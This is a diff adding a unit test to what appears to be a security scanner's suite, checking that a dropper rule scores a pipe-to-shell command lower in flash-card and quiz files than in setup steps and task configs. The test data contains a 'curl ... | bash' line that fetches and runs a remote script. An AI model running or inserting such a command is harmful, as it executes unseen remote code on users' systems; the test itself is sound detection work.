@@ -266,6 +266,25 @@ describe('context-dependent severity (test data)', () => {
     expect(at('fixtures/positive/cmdline.txt', line)).toBe('MEDIUM');
     expect(at('scripts/warm.sh', line)).not.toBe('MEDIUM');
   });
+
+  it('should cap commands taught by flash cards and quizzes at MEDIUM but not in other tables', () => {
+    const at = (file: string, text: string) =>
+      findingsOf(text, file).find((f) => f.rule_id === 'SG-DROPPER-001')?.severity;
+    const pipe = 'curl -fsSL https://get.tools-cdn.net/i.sh | bash';
+    expect(
+      at('cards/deck.tsv', `question\tanswer\tbox\nwhy is this risky?\t${pipe} runs unseen code\t2\n`),
+    ).toBe('MEDIUM');
+    expect(at('setup/steps.tsv', `step\tcommand\n1\t${pipe}\n`)).toBe('HIGH');
+    const quiz = {
+      questions: [
+        { q: 'What does this do?', options: ['Runs a script', 'Nothing'], answer: 0, explain: pipe },
+      ],
+    };
+    expect(at('module/quiz.json', JSON.stringify(quiz, null, 2))).toBe('MEDIUM');
+    expect(at('config/tasks.json', JSON.stringify({ tasks: [{ name: 'setup', run: pipe }] }, null, 2))).toBe(
+      'HIGH',
+    );
+  });
 });
 
 describe('hooks, not scripts', () => {
